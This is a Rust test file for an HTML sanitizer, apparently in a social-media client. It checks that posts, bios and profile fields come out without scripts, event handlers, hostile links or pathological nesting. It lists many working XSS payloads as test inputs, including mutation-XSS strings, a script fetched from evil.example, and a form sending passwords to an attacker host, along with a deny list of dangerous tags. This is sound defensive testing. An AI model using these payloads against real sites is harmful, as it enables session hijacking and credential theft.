use super::*;
use proptest::prelude::*;

/// What must not be in any answer, however it was smuggled in.
const NEVER: [&str; 14] = [
    "<script",
    "<style",
    "<iframe",
    "<svg",
    "<math",
    "<form",
    "<input",
    "<img",
    "<object",
    "<embed",
    " on",
    "srcdoc",
    "javascript:",
    "style=",
];

/// The tags of an answer, so that words in its text do not count.
fn tags(html: &str) -> String {
    pieces(html)
        .filter_map(|piece| match piece {
            Piece::Tag(tag) => Some(tag.raw.to_lowercase()),
            Piece::Text(_) => None,
        })
        .collect()
}

/// The text of an answer, without its spaces.
fn words(html: &str) -> String {
    let text = pieces(html).filter_map(|piece| match piece {
        Piece::Text(text) => Some(text),
        Piece::Tag(_) => None,
    });
    text.collect::<String>().replace(char::is_whitespace, "").replace("&nbsp;", "")
}

fn assert_harmless(html: &str, cleaned: &str) {
    let tags = tags(cleaned);
    for bad in NEVER {
        assert!(!tags.contains(bad), "{html:?} gave {cleaned:?}");
    }
}

#[test]
fn no_script_survives_in_content() {
    for html in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<p onclick=\"alert(1)\">x</p>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"vbscript:x\">x</a>",
        "<a href=\"//evil.example/\">x</a>",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<svg><script>alert(1)</script></svg>",
        "<svg/onload=alert(1)>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<style>*{background:url(javascript:alert(1))}</style>",
        "<p style=\"position:fixed;inset:0\">x</p>",
        "<form action=\"https://evil.example/\"><input name=password><button>go</button></form>",
        "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<base href=\"https://evil.example/\"><link rel=stylesheet href=x><meta http-equiv=refresh content=0>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<details open ontoggle=alert(1)>x</details>",
        "<h1 onclick=alert(1)><script>x</script>A</h1>",
        "<div><a title=\"<h1>\" href=\"https://x.example/?<h1><img/src=x>\">x</a></div>",
        "<textarea><script>alert(1)</script></textarea>",
        "<plaintext><script>alert(1)</script>",
        "<xmp><script>alert(1)</script></xmp>",
        "\u{0}<scr\u{0}ipt>alert(1)</script>",
    ] {
        for cleaned in [post(html), bio(html), field(html)] {
            assert_harmless(html, &cleaned);
            assert!(!tags(&cleaned).contains("data:"), "{html:?} gave {cleaned:?}");
        }
    }
}

#[test]
fn what_a_post_needs_is_kept() {
    for html in [
        "<p>a<br>b <em>c</em> <strong>d</strong> <del>e</del> <u>f</u></p>",
        "<pre><code>let a = 1;</code></pre>",
        "<ul><li>a</li></ul><ol start=\"3\" reversed=\"\"><li value=\"2\">b</li></ol>",
        "<blockquote><p>a</p></blockquote>",
        "<p><ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby></p>",
        "<p class=\"quote-inline\">RE: <span class=\"invisible\">https://</span></p>",
    ] {
        assert_eq!(post(html), html);
    }
}

/// N18
#[test]
fn a_link_that_hides_its_host_behind_a_user_is_none() {
    for hidden in [
        "https://good.example@evil.example/",
        "https://good.example:x@evil.example/",
        "HTTPS:good.example%2Fabout@evil.example",
        " https://:x@evil.example/",
        "gemini://good.example@evil.example/",
    ] {
        let html = format!("<a href=\"{hidden}\">good.example</a>");
        for cleaned in [post(&html), bio(&html), field(&html)] {
            assert!(!cleaned.contains("href") && cleaned.contains(">good.example</a>"), "{cleaned}");
        }
    }
    for open in
        ["https://a.example/@bob", "mailto:bob@a.example", "xmpp:bob@a.example", "https://a.example/?q=x@y"]
    {
        assert!(field(&format!("<a href=\"{open}\">x</a>")).contains(&format!("href=\"{open}\"")), "{open}");
    }
}

#[test]
fn a_link_from_outside_is_marked_and_its_classes_are_ours() {
    assert_eq!(
        post(
            r#"<a href="https://a.example/@bob" class="u-url mention evil" rel="me" target="_top" id="x">@<span class="x">bob</span></a>"#
        ),
        "<a href=\"https://a.example/@bob\" class=\"u-url mention\" target=\"_blank\" rel=\"nofollow noopener noreferrer\">@<span class=\"\">bob</span></a>",
    );
}

#[test]
fn headings_and_boxes_leave_no_words_glued_together() {
    assert_eq!(post("<h2>A</h2>b"), "<p><strong>A</strong></p>b");
    assert_eq!(post("<div>a</div><div>b</div>"), "a<br>b");
    assert_eq!(post("<h1><p>a</p></h1>"), "<p><strong></strong></p><p><strong>a</strong></p><p></p>");
    assert_eq!(post("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>"), "a b <br>c ");
}

/// Capability N19.
#[test]
fn inline_images_are_handed_out_before_they_are_dropped() {
    let html = r#"<p>a <img src="https://a.example/1.png" alt="A &quot;cat&quot; <b>"> <img src="javascript:x"> <img src="/rel.png">
        <img src="https://a.example/1.png"> <img class="emoji" src="https://a.example/e.png"> <img src="https://a.example/2.png?a=1&amp;b=2"></p>"#;
    let images = inline_images(html);
    assert_eq!(
        images,
        [
            InlineImage { src: "https://a.example/1.png".into(), alt: "A \"cat\"".into() },
            InlineImage { src: "https://a.example/2.png?a=1&b=2".into(), alt: String::new() },
        ]
    );
    assert!(!post(html).contains("<img"));
    assert!(inline_images(&"<img src='https://a.example/$'>".replace('$', "x").repeat(100)).len() == 1);
}

#[test]
fn a_field_is_one_line() {
    assert_eq!(
        field("<p><a href=\"https://a.example\" rel=\"me\">a</a></p><h1>b</h1>"),
        "<a href=\"https://a.example\" target=\"_blank\" rel=\"me nofollow noopener noreferrer\">a</a>b"
    );
}

#[test]
fn what_is_too_long_is_cut() {
    let html = "ö".repeat(MAX_BYTES);
    assert!(post(&html).len() <= MAX_BYTES);
}

/// Shapes that make a careless parser quadratic. Each fills the whole bound.
#[test]
fn hostile_nesting_costs_no_more_than_its_size() {
    let numbered: String = (0..20_000).map(|n| format!("<b {n}>")).collect::<Vec<_>>().concat();
    for html in [
        "<span>".repeat(MAX_BYTES / 6),
        format!("{}{}", "<span>".repeat(20_000), "</x>".repeat(30_000)),
        format!("{numbered}{}", "<p>x</p>".repeat(10_000)),
        "<a><p>".repeat(MAX_BYTES / 6),
        "<table><td>".repeat(MAX_BYTES / 11),
        "<div>".repeat(MAX_BYTES / 5),
        "<b><i><u><p>".repeat(MAX_BYTES / 12),
        "<".repeat(MAX_BYTES),
        "&".repeat(MAX_BYTES),
        format!("<a href='{}'>", "&amp;".repeat(MAX_BYTES / 5)),
    ] {
        let (cleaned, beginning) = (post(&html), html.split_at(20).0);
        assert_harmless(beginning, &cleaned);
        assert!(cleaned.len() < 40 * MAX_BYTES, "{beginning} grew to {}", cleaned.len());
    }
}

/// Every text of the collected real documents, where they are at hand.
#[test]
fn real_documents_come_out_harmless_and_readable() {
    let Some(folder) = std::env::var_os("ANTIPHON_FIXTURES") else { return };
    let mut texts = Vec::new();
    for platform in std::fs::read_dir(std::path::Path::new(&folder).join("real")).unwrap() {
        let Ok(files) = std::fs::read_dir(platform.unwrap().path()) else { continue };
        for file in files {
            let bytes = std::fs::read(file.unwrap().path()).unwrap();
            if let Ok(document) = serde_json::from_slice(&bytes) {
                collect(&document, &mut texts);
            }
        }
    }
    assert!(texts.len() > 100, "only {} texts", texts.len());
    for text in texts {
        let cleaned = post(&text);
        assert_harmless(&text, &cleaned);
        assert_harmless(&text, &field(&text));
        let read = crate::plain::from_html(&text);
        assert_eq!(read.is_empty(), words(&cleaned).is_empty(), "{text:?}");
    }
}

/// The strings that are HTML by their place in a document.
fn collect(document: &serde_json::Value, texts: &mut Vec<String>) {
    match document {
        serde_json::Value::Object(members) => {
            for (name, value) in members {
                match value.as_str() {
                    Some(text) if matches!(name.as_str(), "content" | "summary" | "value") => {
                        texts.push(text.to_owned());
                    }
                    _ => collect(value, texts),
                }
            }
        }
        serde_json::Value::Array(items) => items.iter().for_each(|item| collect(item, texts)),
        _ => (),
    }
}

fn hostile() -> impl Strategy<Value = String> {
    let part = prop_oneof![
        "[<>/\"'= &;#a-z]{0,12}",
        "\\PC{0,6}",
        prop::sample::select(vec![
            "<p>",
            "</p>",
            "<div>",
            "</div>",
            "<h1>",
            "</h1>",
            "<script>",
            "</script>",
            "<style>",
            "<svg>",
            "<math>",
            "<a href=\"javascript:x\">",
            "<a href='https://a.example'>",
            "<img src=x onerror=y>",
            "<table>",
            "<td>",
            "</table>",
            "<b x>",
            "<!--",
            "-->",
            "<title>",
            "<noscript>",
            "<select>",
            "<mglyph>",
            "<template>",
            "<br",
            "<li>",
            "<annotation-xml encoding=text/html>",
            "<foreignObject>",
            "\u{0}",
        ])
        .prop_map(str::to_owned),
    ];
    prop::collection::vec(part, 0..40).prop_map(|parts| parts.concat())
}

proptest! {
    #[test]
    fn nothing_harmful_comes_out_of_anything(html in hostile()) {
        let cleaned = post(&html);
        assert_harmless(&html, &cleaned);
        assert_harmless(&html, &field(&html));
        for image in inline_images(&html) {
            prop_assert!(image.src.starts_with("http"));
        }
    }

    #[test]
    fn what_is_clean_reads_the_same_when_cleaned_again(html in hostile()) {
        let once = post(&html);
        let twice = post(&once);
        assert_harmless(&once, &twice);
        prop_assert_eq!(words(&twice), words(&once));
    }

    #[test]
    fn a_name_never_holds_a_tag_or_a_line_break(text in hostile()) {
        let name = plain_line(&text);
        prop_assert!(name.chars().all(|c| !c.is_control()));
        prop_assert!(!name.contains("<script"));
        prop_assert_eq!(plain_line(&name), name);
    }
}
